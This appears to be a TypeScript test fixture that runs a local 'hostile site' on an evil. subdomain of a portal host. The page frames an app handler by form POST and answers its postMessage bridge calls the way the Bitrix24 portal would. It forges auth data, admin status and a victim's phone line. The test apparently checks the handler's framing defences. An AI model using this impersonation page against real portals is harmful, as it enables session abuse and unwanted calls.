import { once } from 'node:events';
import { createServer } from 'node:http';
import { listenOn } from '../harness/ports.ts';

/** What a hostile page tells our frame when it plays the portal. */
export interface Bait {
  /** Address of our handler. */
  readonly placement: string;
  readonly memberId: string;
  readonly authId: string;
  readonly userOptions: Readonly<Record<string, unknown>>;
  /** A line of the victim: a click-to-call on it would dial. */
  readonly line: string;
}

export interface HostileSite {
  /** A page that frames our handler and plays the portal towards it. */
  url(bait: Bait): string;
  close(): Promise<void>;
}

/**
 * A site of somebody else that frames the handler by a form POST, as portals do. Its host is a subdomain of the victim's
 * portal, so both are one site: that is how all cloud portals share one storage partition (stack fact 6).
 *
 * @param portalHost e.g. `portal-a.localhost`
 */
export async function startHostileSite(portalHost: string): Promise<HostileSite> {
  const server = createServer((_request, response) => {
    response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
    response.end(`<!doctype html><title>A harmless page</title><body><script>(${play})()</script>`);
  });
  const port = await listenOn(server, 0);
  return {
    url: (bait) => `http://evil.${portalHost}:${port}/?${encodeURIComponent(JSON.stringify(bait))}`,
    async close() {
      server.closeAllConnections();
      server.close();
      await once(server, 'close');
    },
  };
}

declare global {
  interface Window {
    /** Every message that our frame sent to the hostile page. */
    heard: string[];
  }
}

/** Runs in the page: the portal's side of the bridge (bitrix24 fact 2.1), eager to please. */
function play(): void {
  const bait: Bait = JSON.parse(decodeURIComponent(location.search.slice(1)));
  const sid = 'evil';
  window.heard = [];
  const card = {
    CALL_ID: 'externalCall.evil',
    PHONE_NUMBER: '600',
    LINE_NUMBER: bait.line,
    CALL_DIRECTION: 'outgoing',
    CALL_STATE: 'idle',
  };
  const replies: Record<string, unknown> = {
    getInitData: {
      AUTH_ID: bait.authId,
      AUTH_EXPIRES: 3600,
      MEMBER_ID: bait.memberId,
      IS_ADMIN: true,
      USER_OPTIONS: bait.userOptions,
      DOMAIN: location.host,
    },
    getInterface: { command: ['CallCardSetUiState'], event: ['BackgroundCallCard::initialized'] },
    placementBindEvent: card,
    setUserOption: true,
  };
  addEventListener('message', ({ data, source }) => {
    window.heard.push(String(data));
    const [method = ''] = String(data).split(':');
    const callback = String(data).split(':').at(-2) ?? '';
    source?.postMessage(`${callback}:${JSON.stringify(replies[method] ?? [])}`, { targetOrigin: '*' });
  });
  const frame = document.createElement('iframe');
  frame.name = `${location.host}|0|${sid}`;
  frame.allow = 'microphone *; autoplay *';
  const form = document.createElement('form');
  form.method = 'POST';
  form.action = `${bait.placement}?DOMAIN=${location.host}&PROTOCOL=0&LANG=en&APP_SID=${sid}`;
  form.target = frame.name;
  for (const [name, value] of Object.entries({ AUTH_ID: bait.authId, member_id: bait.memberId })) {
    const field = document.createElement('input');
    Object.assign(field, { type: 'hidden', name, value });
    form.append(field);
  }
  document.body.append(frame, form);
  form.submit();
}
